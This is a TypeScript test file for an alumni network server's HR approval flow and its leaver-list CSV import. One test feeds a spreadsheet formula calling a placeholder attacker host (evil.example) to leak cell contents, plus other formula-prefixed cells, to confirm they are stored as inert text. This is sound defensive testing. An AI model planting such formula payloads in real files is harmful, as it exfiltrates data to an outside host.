/*
 * HR approval and the leaver list (issue 11), through the HTTP API on the test backend: signups
 * that verify while the `approval` setting is on wait for HR, who approves or declines them (each
 * decision audited once, repeated decisions answered unchanged, the member mailed in their
 * language); the leaver list imported as CSV approves the members it names by address or
 * employee number, stores itself so later verifications match it, and sends the rest to review.
 */
import assert from 'node:assert/strict';
import { afterEach, beforeEach, describe, it } from 'node:test';
import { TOKEN_ROLES, type TokenRole } from '../../server/auth.js';
import { LEAVER_LIMITS, parseCsv, readLeaverFile } from '../../server/domain/hr-leavers.js';
import { TOKEN_PARAMETER } from '../../server/domain/membership.js';
import { type MembershipServer, PROBLEM_CONTENT_TYPE, signupBody, startMembershipServer } from './harness.js';

const LANDING = 'https://alumni.example.com/portal/alumni';
const HEADER = 'name,email,employeeNumber,department,leftOn';

describe('HR approval and the leaver list', () => {
  let server: MembershipServer;

  // A fresh database per test: the leaver list and the setting are program-wide.
  beforeEach(async () => {
    server = await startMembershipServer({ landingPath: '/portal/alumni', mailsPerAddress: 1000 });
  });
  afterEach(() => server.close());

  const auth = async (role: TokenRole) => ({ Authorization: await server.bearer(role) });
  const request = async (method: string, path: string, role: TokenRole | 'public', init: { body?: string; type?: string; headers?: Record<string, string> } = {}) =>
    server.app.request(path, {
      method,
      headers: {
        ...(role === 'public' ? {} : await auth(role)),
        ...(init.body !== undefined && { 'Content-Type': init.type ?? 'application/json' }),
        ...init.headers,
      },
      ...(init.body !== undefined && { body: init.body }),
    });

  async function setApproval(on: boolean) {
    const current = await server.store.settings.read();
    const response = await request('PUT', '/api/v1/settings', 'hr', { body: JSON.stringify({ ...current, approval: on }) });
    assert.equal(response.status, 200);
    assert.equal(((await response.json()) as { approval: boolean }).approval, on);
  }

  async function outboxTo(address: string) {
    await server.mail.idle();
    return (await server.store.mailOutbox.list(1000)).filter((message) => message.to === address);
  }

  /** Signs up through the API (the mailed verification link not opened yet): the member's id. */
  async function signUp(overrides: Record<string, unknown> = {}, headers: Record<string, string> = {}) {
    const body = signupBody(overrides);
    const { id } = await server.signUp(body, headers);
    return { id, email: body.email, body };
  }
  const verify = (email: string) => server.verify(email);
  async function signUpAndVerify(overrides: Record<string, unknown> = {}, headers: Record<string, string> = {}) {
    const member = await signUp(overrides, headers);
    await verify(member.email);
    return member;
  }
  const status = async (id: string) => {
    const response = await request('GET', `/api/v1/hr/members/${id}`, 'hr');
    assert.equal(response.status, 200);
    return ((await response.json()) as { member: { status: string } }).member.status;
  };
  const directoryIds = async (role: TokenRole, q: string) => {
    const response = await request('GET', `/api/v1/alumni?q=${encodeURIComponent(q)}&limit=100`, role);
    assert.equal(response.status, 200);
    return ((await response.json()) as { items: { id: string }[] }).items.map((item) => item.id);
  };
  const auditActions = async (id: string, action: string) => (await server.store.audit.list({ subject: id, action })).length;
  const importCsv = (csv: string, headers: Record<string, string> = {}) =>
    request('POST', '/api/v1/hr/leavers', 'hr', { body: csv, type: 'text/csv; charset=utf-8', headers });

  it('every new route: 401 for the public, 403 for alumni and employees, 200 for HR (problem+json)', async () => {
    await setApproval(true);
    for (const role of ['public', ...TOKEN_ROLES] as const) {
      const member = await signUpAndVerify();
      const other = await signUpAndVerify();
      const routes = [
        { path: `/api/v1/hr/members/${member.id}/approve` },
        { path: `/api/v1/hr/members/${other.id}/decline`, body: JSON.stringify({ reason: 'Not on our records' }) },
        { path: '/api/v1/hr/leavers', body: `${HEADER}\r\n`, type: 'text/csv' },
      ];
      for (const route of routes) {
        const response = await request('POST', route.path, role, { ...(route.body !== undefined && { body: route.body, type: route.type }) });
        const expected = role === 'public' ? 401 : role === 'hr' ? 200 : 403;
        assert.equal(response.status, expected, `${role} POST ${route.path}`);
        if (expected !== 200) assert.match(response.headers.get('content-type') ?? '', /application\/problem\+json/);
        await response.arrayBuffer();
      }
    }
  });

  it('approval off: verification makes the member active and listed at once', async () => {
    assert.equal((await server.store.settings.read()).approval, false, 'off by default');
    const member = await signUpAndVerify();
    assert.equal(await status(member.id), 'active');
    assert.ok((await directoryIds('employee', member.body.givenName)).includes(member.id));
  });

  it('approval on: a verified member awaits approval, unlisted; HR approves once (audited), a repeat is a no-op', async () => {
    await setApproval(true);
    const member = await signUpAndVerify({}, { 'Accept-Language': 'en' });
    assert.equal(await status(member.id), 'awaiting-approval');
    assert.ok(!(await directoryIds('employee', member.body.givenName)).includes(member.id), 'an employee does not find them');
    assert.ok(!(await directoryIds('alumni', member.body.givenName)).includes(member.id), 'nor does an alumnus');
    const profile = await request('GET', `/api/v1/alumni/${member.id}`, 'employee');
    assert.equal(profile.status, 404);

    const overview = (await (await request('GET', '/api/v1/hr/overview', 'hr')).json()) as any;
    assert.equal(overview.approval, true);
    assert.equal(overview.members.awaitingApproval, 1);
    const queue = (await (await request('GET', '/api/v1/hr/members?status=awaiting-approval', 'hr')).json()) as any;
    assert.deepEqual(queue.items.map((item: { id: string }) => item.id), [member.id], 'the overview number is the segment');

    for (let attempt = 0; attempt < 2; attempt++) {
      const response = await request('POST', `/api/v1/hr/members/${member.id}/approve`, 'hr');
      assert.equal(response.status, 200);
      const body = (await response.json()) as any;
      assert.equal(body.member.status, 'active');
      assert.ok(Array.isArray(body.consents) && Array.isArray(body.audit), 'the detail view’s shape');
    }
    assert.equal(await auditActions(member.id, 'hr.member.approve'), 1, 'audited once');
    assert.ok((await directoryIds('employee', member.body.givenName)).includes(member.id), 'listed once approved');
    const welcome = (await outboxTo(member.email)).filter((message) => message.subject === 'Welcome to the alumni network');
    assert.equal(welcome.length, 1, 'one welcome, in English');
    assert.ok(welcome[0]!.text.includes(LANDING) && !welcome[0]!.text.includes(TOKEN_PARAMETER), 'links the alumni page, no token');
  });

  it('a member awaiting approval who asks for a sign-in link (or joins again) is told it waits for HR: no link, the same 202 and 201', async () => {
    await setApproval(true);
    const member = await signUpAndVerify({}, { 'Accept-Language': 'en' });
    assert.equal(await status(member.id), 'awaiting-approval');
    const stranger = 'nobody@example.net';
    const before = (await outboxTo(member.email)).length;

    const asked = await request('POST', '/api/v1/auth/email-link', 'public', { body: JSON.stringify({ email: member.email, lang: 'ja' }) });
    const strangerAsked = await request('POST', '/api/v1/auth/email-link', 'public', { body: JSON.stringify({ email: stranger }) });
    assert.equal(asked.status, 202);
    assert.equal(strangerAsked.status, 202);
    assert.equal(await asked.text(), await strangerAsked.text(), 'the answer says nothing about the address');
    assert.deepEqual([...asked.headers.keys()].sort(), [...strangerAsked.headers.keys()].sort());

    // The outbox lists newest first: what came after `before`.
    const since = async () => {
      const all = await outboxTo(member.email);
      return all.slice(0, all.length - before);
    };
    const waiting = await since();
    assert.equal(waiting.length, 1, 'one mail');
    assert.equal(waiting[0]!.subject, 'Your alumni network membership is waiting for approval', 'in the member’s language (English), not the page’s');
    assert.ok(!waiting[0]!.text.includes('http') && !waiting[0]!.html.includes('href'), 'no link: none would open anything yet');
    assert.equal(Number(await server.sql.value("SELECT COUNT(*) FROM link_tokens WHERE alumni_id = ? AND purpose = 'sign-in'", member.id)), 0, 'no token issued');
    assert.equal((await outboxTo(stranger)).length, 0);

    // Joining again with the address: the same notice instead of a sign-in link that could not work.
    const again = await request('POST', '/api/v1/alumni', 'public', { body: JSON.stringify(signupBody({ email: member.email })) });
    assert.equal(again.status, 201);
    const latest = await since();
    assert.equal(latest.length, 2);
    assert.ok(latest.every((message) => message.subject === 'Your alumni network membership is waiting for approval' && !message.text.includes(TOKEN_PARAMETER)));
    assert.equal(await status(member.id), 'awaiting-approval', 'nothing changed');

    // Once approved, the same request mails a sign-in link.
    assert.equal((await request('POST', `/api/v1/hr/members/${member.id}/approve`, 'hr')).status, 200);
    assert.equal((await request('POST', '/api/v1/auth/email-link', 'public', { body: JSON.stringify({ email: member.email }) })).status, 202);
    const signIn = (await outboxTo(member.email))[0]!;
    assert.equal(signIn.subject, 'Your sign-in link for the alumni network');
    assert.ok(signIn.text.includes(TOKEN_PARAMETER));
  });

  it('a declined member who asks for a sign-in link (or joins again) gets the decline notice again, never a link', async () => {
    await setApproval(true);
    const member = await signUpAndVerify();
    assert.equal((await request('POST', `/api/v1/hr/members/${member.id}/decline`, 'hr', { body: JSON.stringify({}) })).status, 200);
    const before = (await outboxTo(member.email)).length;
    assert.equal((await request('POST', '/api/v1/auth/email-link', 'public', { body: JSON.stringify({ email: member.email }) })).status, 202);
    assert.equal((await request('POST', '/api/v1/alumni', 'public', { body: JSON.stringify(signupBody({ email: member.email })) })).status, 201);
    const all = await outboxTo(member.email);
    const after = all.slice(0, all.length - before);
    assert.equal(after.length, 2);
    assert.ok(after.every((message) => message.subject === 'アルムナイネットワーク：ご登録について' && !message.text.includes('http')), 'the neutral notice, in Japanese');
    assert.equal(await status(member.id), 'declined');
  });

  it('decline: unlisted for good, a neutral localized notice without the reason, idempotent, purged like a pending signup', async () => {
    await setApproval(true);
    const member = await signUpAndVerify();
    const reason = 'Not on our records <script>';
    for (let attempt = 0; attempt < 2; attempt++) {
      const response = await request('POST', `/api/v1/hr/members/${member.id}/decline`, 'hr', { body: JSON.stringify({ reason }) });
      assert.equal(response.status, 200);
      const body = (await response.json()) as any;
      assert.equal(body.member.status, 'declined');
      assert.equal(body.member.declineReason, reason);
    }
    assert.equal(await auditActions(member.id, 'hr.member.decline'), 1);
    const [audit] = await server.store.audit.list({ subject: member.id, action: 'hr.member.decline' });
    assert.deepEqual(audit!.detail, { reason: true }, 'the audit row says a reason was given, not what it said');
    const notices = (await outboxTo(member.email)).filter((message) => message.subject === 'アルムナイネットワーク：ご登録について');
    assert.equal(notices.length, 1, 'one notice, in Japanese (the signup’s language)');
    assert.ok(!notices[0]!.text.includes('records') && !notices[0]!.html.includes('script'), 'the reason is not in the mail');
    assert.ok(!notices[0]!.text.includes('http'), 'no link');
    assert.ok(!(await directoryIds('employee', member.body.givenName)).includes(member.id));

    const conflict = await request('POST', `/api/v1/hr/members/${member.id}/approve`, 'hr');
    assert.equal(conflict.status, 409);
    assert.equal(conflict.headers.get('content-type'), PROBLEM_CONTENT_TYPE);
    assert.equal(((await conflict.json()) as { code: string }).code, 'not_awaiting_approval');

    // Decided "now"; a purge with a cut-off before it keeps them, one after it removes them.
    assert.equal(await server.store.membership.purgePending(new Date(Date.now() - 60_000).toISOString()), 0);
    assert.equal(await server.store.membership.purgePending(new Date(Date.now() + 60_000).toISOString()), 1);
    assert.equal(Number(await server.sql.value('SELECT COUNT(*) FROM alumni WHERE id = ?', member.id)), 0);
    assert.equal(await auditActions(member.id, 'alumni.declined.purge'), 1);
  });

  it('refuses to approve or decline a pending member (409 not_awaiting_approval), an unknown one 404, a long reason 400', async () => {
    await setApproval(true);
    const pending = await signUp();
    for (const kind of ['approve', 'decline']) {
      const response = await request('POST', `/api/v1/hr/members/${pending.id}/${kind}`, 'hr');
      assert.equal(response.status, 409);
      assert.equal(((await response.json()) as { code: string }).code, 'not_awaiting_approval');
    }
    assert.equal((await request('POST', '/api/v1/hr/members/al_nobody000000000/approve', 'hr')).status, 404);
    const awaiting = await signUpAndVerify();
    const long = await request('POST', `/api/v1/hr/members/${awaiting.id}/decline`, 'hr', { body: JSON.stringify({ reason: 'x'.repeat(501) }) });
    assert.equal(long.status, 400);
    assert.equal(long.headers.get('content-type'), PROBLEM_CONTENT_TYPE);
    const active = (await server.sql.value<string>("SELECT id FROM alumni WHERE status = 'active' AND approval IS NULL LIMIT 1"))!;
    assert.equal((await request('POST', `/api/v1/hr/members/${active}/decline`, 'hr')).status, 409, 'an active member is not declined');
  });

  it('Idempotency-Key: a retried approve or import replays the first answer without doing it twice', async () => {
    await setApproval(true);
    const member = await signUpAndVerify();
    const key = { 'Idempotency-Key': `approve-${member.id}` };
    const first = await request('POST', `/api/v1/hr/members/${member.id}/approve`, 'hr', { headers: key });
    const replay = await request('POST', `/api/v1/hr/members/${member.id}/approve`, 'hr', { headers: key });
    assert.equal(replay.status, 200);
    assert.equal(replay.headers.get('idempotent-replayed'), 'true');
    assert.deepEqual(await replay.json(), await first.json());

    // The same key sent for another member is that member's request, not a replay of the first.
    const second = await signUpAndVerify();
    const reused = await request('POST', `/api/v1/hr/members/${second.id}/approve`, 'hr', { headers: key });
    assert.equal(reused.headers.get('idempotent-replayed'), null);
    assert.equal(((await reused.json()) as any).member.id, second.id);
    assert.equal(await status(second.id), 'active');

    const other = await signUpAndVerify();
    const csv = `${HEADER}\r\n真島 結衣,${other.email},,,2023-03\r\n`;
    const importKey = { 'Idempotency-Key': 'leavers-1' };
    const imported = await importCsv(csv, importKey);
    const again = await importCsv(csv, importKey);
    assert.equal(again.headers.get('idempotent-replayed'), 'true');
    assert.deepEqual(await again.json(), await imported.json());
    assert.equal(await auditActions(other.id, 'hr.member.approve'), 1);
    assert.equal((await server.store.audit.list({ action: 'hr.leavers.import' })).length, 1);
    assert.equal((await importCsv(`${csv}x,y@example.org,,,\r\n`, importKey)).status, 422, 'the same key with another file');
  });

  it('leaver import: e-mail (width and case ignored) or employee number approves; ambiguous, name-only and unknown rows go to review', async () => {
    await setApproval(true);
    const byEmail = await signUpAndVerify({ email: 'ken.sato@example.net', familyName: '佐藤', givenName: '健' });
    // The number as the signup form sends it: stored as the leaver list compares it.
    const byNumber = await signUpAndVerify({ familyName: '鈴木', givenName: '花子', employeeNumber: ' e-00123 ' });
    const nameOnly = await signUpAndVerify({ familyName: '高橋', givenName: '一郎' });
    const ambiguousA = await signUpAndVerify();
    await signUpAndVerify({ employeeNumber: 'E-777' });
    const pending = await signUp();
    const active = (await server.sql.value<string>("SELECT email FROM alumni WHERE status = 'active' AND approval IS NULL LIMIT 1"))!;
    const wideEmail = byEmail.email.toUpperCase().replace(/[A-Z0-9.@]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));

    const csv = [
      'Name,EMAIL,employeeNumber,department,leftOn',
      `佐藤 健,  ${wideEmail}  ,,営業部,2020-03`,
      `鈴木 花子,,ｅ－００１２３,,`,
      `高橋 一郎,someone.else@example.org,,,`,
      `"Ambiguous, person",${ambiguousA.email},E-777,,`,
      `Pending,${pending.email},,,`,
      `Active,${active},,,`,
      `Nobody,nobody@example.org,,,2019-13`,
      `Only a name,,,,`,
      '',
    ].join('\r\n');
    const response = await importCsv(csv);
    assert.equal(response.status, 200);
    const result = (await response.json()) as any;
    assert.equal(result.rows, 8, 'every record after the header (the final line break ends the last one)');
    assert.deepEqual(
      result.approved.map((a: any) => [a.row, a.memberId]),
      [
        [2, byEmail.id],
        [3, byNumber.id],
      ],
    );
    assert.equal(result.approved[0].name, '佐藤 健');
    assert.deepEqual(result.review, [
      { row: 4, memberId: nameOnly.id, reason: 'no_match', detail: 'name_only' },
      { row: 5, memberId: null, reason: 'ambiguous', detail: 'email_and_employee_number_differ' },
      { row: 6, memberId: pending.id, reason: 'not_awaiting_approval', detail: 'pending' },
      { row: 7, memberId: (await server.sql.value<string>('SELECT id FROM alumni WHERE email = ?', active))!, reason: 'not_awaiting_approval', detail: 'active' },
      { row: 8, memberId: null, reason: 'invalid_row', detail: 'leftOn' },
      { row: 9, memberId: null, reason: 'invalid_row', detail: 'email_or_employee_number_required' },
    ]);
    assert.equal(await status(byEmail.id), 'active');
    assert.equal(await status(byNumber.id), 'active');
    assert.equal(await status(nameOnly.id), 'awaiting-approval', 'a name alone never approves');
    assert.equal(await status(ambiguousA.id), 'awaiting-approval');
    assert.deepEqual((await server.store.audit.list({ subject: byEmail.id, action: 'hr.member.approve' }))[0]!.detail, { viaLeaverList: true });
    assert.equal((await outboxTo(byEmail.email)).filter((m) => m.subject.includes('承認')).length, 1, 'the approved are welcomed');

    // The pending member verifies later: the stored list approves them at verification.
    await verify(pending.email);
    assert.equal(await status(pending.id), 'active');
    const [verified] = await server.store.audit.list({ subject: pending.id, action: 'alumni.verify' });
    assert.deepEqual(verified!.detail, { approval: 'leaver-list' });
    // A signup after the import, on the stored list, never waits.
    const later = await signUp({ email: 'late.leaver@example.org' });
    await importCsv(`${HEADER}\r\nLate,LATE.LEAVER@example.org,,,\r\n`);
    await verify(later.email);
    assert.equal(await status(later.id), 'active');
    const stranger = await signUpAndVerify();
    assert.equal(await status(stranger.id), 'awaiting-approval', 'nobody else is approved by the list');
  });

  it('the employee number given at signup: stored normalized, shown to HR (detail, list, export) and the member, never in the directory', async () => {
    const number = 'ｅ－２０１４０４０１';
    const member = await signUpAndVerify({ employeeNumber: `  ${number} `, currentCompany: 'Numbered KK' }, { 'Accept-Language': 'en' });
    assert.equal(await server.sql.value('SELECT employee_number FROM alumni WHERE id = ?', member.id), 'E-20140401', 'width-normalized, trimmed, upper case');

    const detail = (await (await request('GET', `/api/v1/hr/members/${member.id}`, 'hr')).json()) as { member: { employeeNumber: string | null } };
    assert.equal(detail.member.employeeNumber, 'E-20140401');
    const list = (await (await request('GET', '/api/v1/hr/members?q=Numbered', 'hr')).json()) as { items: { id: string; employeeNumber: string | null }[] };
    assert.deepEqual(list.items.map((item) => [item.id, item.employeeNumber]), [[member.id, 'E-20140401']]);
    const csv = await (await request('GET', '/api/v1/hr/members/export.csv?purpose=records&lang=ja&q=Numbered', 'hr')).text();
    const [header, row] = csv.replace(/^\ufeff/, '').split('\r\n');
    const column = header!.split(',').indexOf('"社員番号"');
    assert.ok(column > 0, header);
    assert.equal(row!.split(',')[column], '"E-20140401"');

    // Nobody else sees it: not alumni, employees or HR in the directory, in the list or the single answer.
    for (const role of TOKEN_ROLES) {
      const found = await request('GET', `/api/v1/alumni?q=Numbered`, role);
      const one = await request('GET', `/api/v1/alumni/${member.id}`, role);
      const bodies = `${await found.text()} ${await one.text()}`;
      assert.ok(!bodies.includes('20140401') && !bodies.includes('employeeNumber'), `${role}: ${bodies}`);
    }
    const directory = (await (await request('GET', '/api/v1/alumni?q=20140401', 'hr')).json()) as { items: unknown[] };
    assert.deepEqual(directory.items, [], 'nor does the directory search it');
    // The member's own record and data export hold it (everything stored about them).
    assert.equal((await server.store.membership.export(member.id))!.member.employeeNumber, 'E-20140401');
  });

  for (const [name, employeeNumber, code] of [
    ['too long', 'E'.repeat(LEAVER_LIMITS.employeeNumber + 1), 'too_long'],
    ['on two lines', 'E-1\nE-2', 'invalid'],
  ] as const) {
    it(`refuses an employee number ${name} (400, errors.employeeNumber: ${code})`, async () => {
      const response = await request('POST', '/api/v1/alumni', 'public', { body: JSON.stringify(signupBody({ employeeNumber })) });
      assert.equal(response.status, 400);
      assert.equal(response.headers.get('content-type'), PROBLEM_CONTENT_TYPE);
      assert.equal(((await response.json()) as { errors: Record<string, string> }).errors.employeeNumber, code);
    });
  }

  it('stores hostile cells as the text they are: formulas, quotes, line breaks, a BOM', async () => {
    await setApproval(true);
    const member = await signUpAndVerify();
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    const csv = `\uFEFF${HEADER}\r\n"${formula.replaceAll('"', '""')}","${member.email}",,"営業部\r\n第二課","2021-07"\r\n"+SUM(1,2)",,@E1,-2,\r\n`;
    const response = await importCsv(csv);
    assert.equal(response.status, 200);
    const result = (await response.json()) as any;
    assert.equal(result.rows, 2);
    assert.deepEqual(result.approved.map((a: any) => a.row), [2]);
    const rows = await server.sql.rows<{ name: string; department: string | null; employee_number: string | null }>(
      'SELECT name, department, employee_number FROM leavers ORDER BY id',
    );
    assert.deepEqual(rows, [
      { name: formula, department: '営業部\r\n第二課', employee_number: null },
      { name: '+SUM(1,2)', department: '-2', employee_number: '@E1' },
    ]);
  });

  it('refuses what is not a leaver list: media type 415, size 413, not UTF-8, broken quoting, unknown columns (400 invalid_csv with the row)', async () => {
    assert.equal((await request('POST', '/api/v1/hr/leavers', 'hr', { body: JSON.stringify({ rows: [] }) })).status, 415);
    const big = `${HEADER}\r\n${`x,a@example.org,,,\r\n`.repeat(Math.ceil(LEAVER_LIMITS.bytes / 19) + 1)}`;
    const tooLarge = await importCsv(big);
    assert.equal(tooLarge.status, 413);
    assert.equal(tooLarge.headers.get('content-type'), PROBLEM_CONTENT_TYPE);
    const shiftJis = new Uint8Array([...new TextEncoder().encode(`${HEADER}\r\n`), 0x8d, 0xb2, 0x93, 0xa1, 0x2c, 0x61, 0x40, 0x62, 0x2e, 0x63, 0x2c, 0x2c, 0x2c, 0x0d, 0x0a]);
    const notUtf8 = await server.app.request('/api/v1/hr/leavers', {
      method: 'POST',
      headers: { ...(await auth('hr')), 'Content-Type': 'text/csv' },
      body: shiftJis,
    });
    assert.equal(notUtf8.status, 400);
    assert.equal(((await notUtf8.json()) as { code: string }).code, 'invalid_csv');
    for (const [csv, row] of [
      [`${HEADER}\r\n"unterminated,a@example.org,,,\r\n`, 2],
      [`${HEADER}\r\nok,a@example.org,,,\r\n"closed"after,b@example.org,,,\r\n`, 3],
      [`${HEADER}\r\nin"side,a@example.org,,,\r\n`, 2],
      ['name,email,phone\r\nx,a@example.org,1\r\n', 1],
      ['name,department\r\nx,y\r\n', 1],
      ['', 1],
    ] as const) {
      const response = await importCsv(csv);
      assert.equal(response.status, 400, JSON.stringify(csv));
      const problem = (await response.json()) as { code: string; row: number };
      assert.deepEqual([problem.code, problem.row], ['invalid_csv', row], JSON.stringify(csv));
    }
  });
});

describe('parseCsv (RFC 4180)', () => {
  it('reads quoted commas, doubled quotes, line breaks inside quotes, CRLF, LF and CR, and drops a BOM', () => {
    assert.deepEqual(parseCsv('\uFEFFa,b\r\n"x, y","say ""hi"""\n"multi\r\nline",\rlast,""'), [
      ['a', 'b'],
      ['x, y', 'say "hi"'],
      ['multi\r\nline', ''],
      ['last', ''],
    ]);
    assert.deepEqual(parseCsv('a,b\r\n'), [['a', 'b']], 'a final line break ends the last record, no empty record after it');
    assert.deepEqual(parseCsv('a,,\r\n,\r\n'), [
      ['a', '', ''],
      ['', ''],
    ]);
  });

  it('counts rows as a spreadsheet does: a record with a line break inside is one row', () => {
    const file = readLeaverFile(`${HEADER}\r\n"two\r\nlines",a@example.org,,,\r\n\r\nb,b@example.org,,,`);
    assert.deepEqual(
      file.leavers.map((leaver) => leaver.row),
      [2, 4],
    );
    assert.equal(file.rows, 3);
  });
});
